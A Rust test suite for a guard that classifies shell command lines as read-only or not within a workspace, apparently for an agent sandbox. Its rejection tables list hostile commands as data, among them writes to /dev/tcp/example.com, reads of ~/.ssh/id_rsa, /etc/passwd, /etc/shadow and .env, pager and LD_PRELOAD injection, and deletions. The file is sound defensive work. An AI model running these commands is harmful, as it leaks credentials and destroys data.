use std::path::PathBuf;

use super::*;
use crate::shell::analyse;

/// A workspace with a few files, an inert `.git`, and a secret.
struct Fixture {
    _dir: tempfile::TempDir,
    guard: WorkspaceGuard,
    cwd: PathBuf,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("ws");
    for (path, text) in [
        ("src/main.rs", "fn main() {}\n"),
        ("src/lib.rs", "\n"),
        ("README.md", "# hi\n"),
        ("names.txt", "b\na\n"),
        ("package.json", "{}\n"),
        (".env", "API_KEY=x\n"),
        (
            ".git/config",
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
        ),
    ] {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    std::fs::write(dir.path().join("outside.txt"), "secret\n").unwrap();
    std::fs::hard_link(dir.path().join("outside.txt"), root.join("hardlink.txt")).unwrap();
    let guard = WorkspaceGuard::new(&root).unwrap();
    let cwd = guard.root().to_path_buf();
    Fixture {
        _dir: dir,
        guard,
        cwd,
    }
}

impl Fixture {
    fn proven(&self, line: &str) -> bool {
        is_read_only(&analyse(line), &self.guard, &self.cwd)
    }

    /// Asserts every line of `table` is (or is not) proven, naming the class on failure.
    fn check(&self, class: &str, table: &[&str], expected: bool) {
        let wrong: Vec<&str> = table
            .iter()
            .copied()
            .filter(|line| self.proven(line) != expected)
            .collect();
        assert!(
            wrong.is_empty(),
            "{class}: expected proven={expected} for {wrong:#?}"
        );
    }
}

#[test]
fn observers_are_proven_read_only() {
    let f = fixture();
    f.check(
        "observers",
        &[
            "ls -la src",
            "ls",
            "cat README.md | head -20",
            "grep -rn foo src",
            "grep -rn 'fn main' src && wc -l src/main.rs src/lib.rs",
            "rg TODO --type rust src",
            "rg -n -e foo src",
            "git status",
            "git status --short -b",
            "git diff HEAD~1 -- src/lib.rs",
            "git diff --cached --stat",
            "git log --oneline -5",
            "git log -n 3 --format=%H",
            "git show HEAD --stat",
            "git branch -a",
            "git branch -vv",
            "git rev-parse --show-toplevel",
            "git ls-files src",
            "find . -name '*.rs' -type f",
            "find src -maxdepth 1 -type d -print",
            "sed -n '1,20p' src/main.rs",
            "sed -n '/fn/p' src/main.rs",
            "sed -n -e '1p' -e '$p' README.md",
            "sort names.txt | uniq -c",
            "sort -rn names.txt",
            "true",
            "ls missing 2>/dev/null || echo none",
            "cat README.md 2>&1",
            "cat < README.md",
            "echo hi; pwd",
            "printf '%s\\n' a b",
            "test -f README.md && echo yes",
            "[ -d src ]",
            "date +%Y",
            "wc -l < names.txt",
            "/usr/bin/cat README.md",
            "basename src/main.rs .rs",
            "diff names.txt README.md",
            "stat -c %s README.md",
            "head -n 5 README.md",
            "tail -3 README.md",
            "cut -d: -f1 names.txt",
            "tr a-z A-Z < names.txt",
            "du -sh src",
            "sha256sum README.md",
            "readlink -f src",
            "seq 1 3 | paste -sd+",
            "sleep 1; nproc",
            "comm -12 names.txt README.md",
            "fold -w 10 README.md",
        ],
        true,
    );
}

#[test]
fn words_bash_could_expand_are_not_proven() {
    fixture().check(
        "expansions",
        &[
            "cat $HOME/x",
            "cat \"$HOME/x\"",
            "cat ${HOME}/.ssh/id_rsa",
            "cat {a,b}",
            "cat src/{main,lib}.rs",
            "cat {1..3}",
            "cat *",
            "cat src/*.rs",
            "cat ?EADME.md",
            "cat [R]EADME.md",
            "echo $((1))",
            "echo $[1+1]",
            "cat ~/x",
            "cat ~root/x",
            "ls --color=~/x",
            "echo ${PS1@P}",
            "echo $'\\x41'",
            "echo $\"x\"",
            "cat !(x)",
            "ls @(src)",
            "echo $(id)",
            "echo `id`",
            "cat < $FILE",
            "ls 2>/dev/null >$OUT",
        ],
        false,
    );
}

#[test]
fn assignment_prefixes_are_not_proven() {
    fixture().check(
        "assignments",
        &[
            "GIT_PAGER=x git log",
            "GIT_EXTERNAL_DIFF=./x git diff",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
            "PAGER='sh -c id' git log",
            "LESSOPEN='|id' cat README.md",
            "NODE_OPTIONS=--require=./x ls",
            "LD_PRELOAD=./x.so ls",
            "BASH_ENV=./x ls",
            "A=1 ls",
            "A=1",
            "A+=1 ls",
            // Lines of plain assignments, notably of the shell's and rein's own variables.
            "PATH=.:$PATH",
            "PATH=/tmp/x",
            "PWD=/etc",
            "IFS=/",
            "__REIN_CWD_FILE=/tmp/x",
            "REIN_CALL=1 ls",
            "A=1 B=2",
            "export PATH=.",
            "declare -x PATH=.",
            "readonly A=1",
            "unset PATH",
            "set -a",
        ],
        false,
    );
}

#[test]
fn option_spellings_the_tables_do_not_list_are_not_proven() {
    fixture().check(
        "option spellings",
        &[
            "sort --out=x names.txt",
            "sort --output=x names.txt",
            "sort -o x names.txt",
            "sort -uo x names.txt",
            "sort -ox names.txt",
            "sed -ni 1p README.md",
            "sed -n -i 1p README.md",
            "sed --in-pl 1p README.md",
            "sed -n --in-place 1p README.md",
            "sed -ns 1p README.md",
            "git diff --outp=x",
            "git diff --output=x",
            "git diff --ext",
            "git log --format=%H --outpu=x",
            "ls --colo=always",
            "grep -rnf x src",
            "head --lin=3 README.md",
            "cat --number=3 README.md",
            "uniq names.txt out.txt",
            "rg --pre ./x foo",
            "rg --pre=./x foo",
            "rg -z foo",
            "file -C -m x",
            "date -s 2020-01-01",
            "date 0101000020",
            "tail -f README.md",
            "diff -r src src",
        ],
        false,
    );
}

#[test]
fn options_that_write_or_run_programs_are_not_proven() {
    fixture().check(
        "write or execute",
        &[
            "sed -n 'w x' README.md",
            "sed -n '1w x' README.md",
            "sed -n '1e id' README.md",
            "sed -n 's/a/b/e' README.md",
            "sed -n 's/a/b/w x' README.md",
            "sed -n '1r /etc/passwd' README.md",
            "sed -n 'W x' README.md",
            "sed '1p' README.md",
            "sed -n -e 'p' -e 'w x' README.md",
            "sort --compress-program=sh names.txt",
            "sort -T /tmp names.txt",
            "sort --files0-from=x",
            "find . -fprint x",
            "find . -fprintf x %p",
            "find . -fls x",
            "find . -exec id \\;",
            "find . -execdir id \\;",
            "find . -ok id \\;",
            "find . -delete",
            "find -L . -name x",
            "find . -follow",
            "test -v X",
            "[ -v 'a[$(id)]' ]",
            "test -R X",
            "printf -v X y",
            "printf -vX y",
            "git diff --ext-diff",
            "git diff --textconv",
            "git log --show-signature",
            "git grep -O foo",
            "git grep --open-files-in-pager=id foo",
            "git branch new-feature",
            "git branch -D main",
            "git branch -m x",
            "git branch --set-upstream-to=x",
            "git status --porcelain > out.txt",
            "echo hi > file.txt",
            "cat a >> b",
            "ls &> log",
            "ls >| x",
            "cat <> x",
            "ls && touch x",
            "xargs rm",
            "tee out.txt",
            "awk '{print > \"x\"}' names.txt",
            "cargo build",
            "python3 -c 'print(1)'",
            "jq -n '$ENV'",
        ],
        false,
    );
}

#[test]
fn git_global_options_and_other_subcommands_are_not_proven() {
    fixture().check(
        "git",
        &[
            "git -C /tmp status",
            "git -c core.pager=id log",
            "git --git-dir=/tmp/x status",
            "git --work-tree=.. status",
            "git --exec-path=. status",
            "git -p log",
            "git --paginate log",
            "git --no-pager log",
            "git st",
            "git commit -m wip",
            "git push",
            "git fetch",
            "git config --get core.pager",
            "git stash list",
            "git blame README.md",
            "git diff /etc/passwd",
            "git show HEAD:.env",
            "git log -- ../..",
            "git diff :/",
            "git upload-pack .",
            "git diff --no-index /etc/passwd README.md",
        ],
        false,
    );
}

#[test]
fn program_paths_other_than_the_system_bins_are_not_proven() {
    fixture().check(
        "program paths",
        &[
            "../../bin/sh",
            "../../usr/bin/cat README.md",
            "./cat README.md",
            "node_modules/.bin/ls",
            "/tmp/ls",
            "/usr/local/bin/ls",
            "/usr/bin/../../tmp/ls",
            "src/ls",
            "'/bin/ls'/x",
        ],
        false,
    );
}

#[test]
fn programs_that_print_the_environment_or_are_unknown_are_not_proven() {
    fixture().check(
        "environment and unknown programs",
        &[
            "printenv",
            "printenv API_KEY",
            "env",
            "env ls",
            "set",
            "export",
            "declare -p",
            "npm test",
            "make",
            "./script.sh",
            "$EDITOR file",
            "ls &",
            "",
            "# only a comment",
            "sudo ls",
            "command ls",
            "bash -c ls",
            "eval ls",
            "time ls",
        ],
        false,
    );
}

#[test]
fn paths_outside_the_workspace_or_sensitive_are_not_proven() {
    fixture().check(
        "paths",
        &[
            "cat /etc/passwd",
            "cat ../outside.txt",
            "ls ../..",
            "ls /",
            "cat .env",
            "grep -r KEY .env",
            "head -n 1 .env",
            "cat < .env",
            "cat hardlink.txt",
            "wc -l hardlink.txt",
            "find / -name x",
            "find .. -name x",
            "test -f /etc/shadow",
            "diff .env README.md",
            "sed -n 1p /etc/passwd",
            "rg foo /etc",
            "stat ../outside.txt",
        ],
        false,
    );
}

#[test]
fn recursive_searches_over_a_directory_holding_a_secret_are_not_proven() {
    let f = fixture();
    // The workspace root holds `.env` and a hard link to a file outside.
    f.check(
        "recursive searches",
        &[
            "grep -r KEY .",
            "grep -rn KEY",
            "diff . src",
            "grep --recursive KEY .",
            "rg KEY",
            "rg KEY .",
            "rg -e KEY",
            "git grep KEY",
        ],
        false,
    );
    // `src` holds neither.
    f.check(
        "recursive searches of a clean directory",
        &["grep -rn fn src", "rg fn src", "grep fn src/main.rs"],
        true,
    );
    let secret_below = f.guard.root().join("src/nested/.env");
    std::fs::create_dir_all(secret_below.parent().unwrap()).unwrap();
    std::fs::write(&secret_below, "API_KEY=x\n").unwrap();
    f.check(
        "a secret deeper down",
        &["grep -rn fn src", "rg fn src"],
        false,
    );
}

#[test]
fn other_spellings_an_attacker_might_try_are_not_proven() {
    fixture().check(
        "grab bag",
        &[
            "cat README.md > /dev/stdout",
            "cat README.md | sh",
            "cat < /dev/tcp/example.com/80",
            "echo x > /dev/tcp/example.com/80",
            "ls ~+",
            "cat README.md ${x:-}",
            "sed -n 1p README.md -i.bak",
            "sed -n p --in-place=x README.md",
            "grep --exclude-from=x foo src",
            "rg --pre-glob '*' foo src",
            "rg --hostname-bin=x foo src",
            "rg -L foo src",
            "grep -R foo src",
            "test -f README.md -o -v x",
            "exec ls",
            "cd src && ls",
            "source x",
            ". ./x",
            "ls -la src 3>x",
            "git log --output=x",
            "git log --ext-diff -p",
            "git --version",
            "git diff --color-moved",
            "git status; GIT_DIR=x git log",
            "find . -newer ../x",
            "find . -files0-from x",
            "date -f dates.txt",
            "date -r ../outside.txt",
            "sha256sum -c sums.txt",
            "file -f list.txt",
            "du --files0-from=x",
            "wc --files0-from=x",
            "head -n 1 README.md .env",
            "readlink ../outside.txt",
            "comm names.txt README.md out.txt",
            "seq -f %n 1",
            "sleep 1 &",
            "'cat' .env",
            "c\\at .env",
        ],
        false,
    );
}

#[test]
fn a_shell_directory_outside_the_workspace_proves_nothing() {
    let f = fixture();
    let outside = f.guard.root().parent().unwrap().to_path_buf();
    assert!(!is_read_only(&analyse("ls"), &f.guard, &outside));
    assert!(!is_read_only(&analyse("pwd"), &f.guard, &outside));
}

#[test]
fn git_in_a_directory_without_a_repository_is_not_proven() {
    let dir = tempfile::tempdir().unwrap();
    let guard = WorkspaceGuard::new(dir.path()).unwrap();
    let cwd = guard.root().to_path_buf();
    assert!(!is_read_only(&analyse("git status"), &guard, &cwd));
    assert!(is_read_only(&analyse("ls"), &guard, &cwd));
}
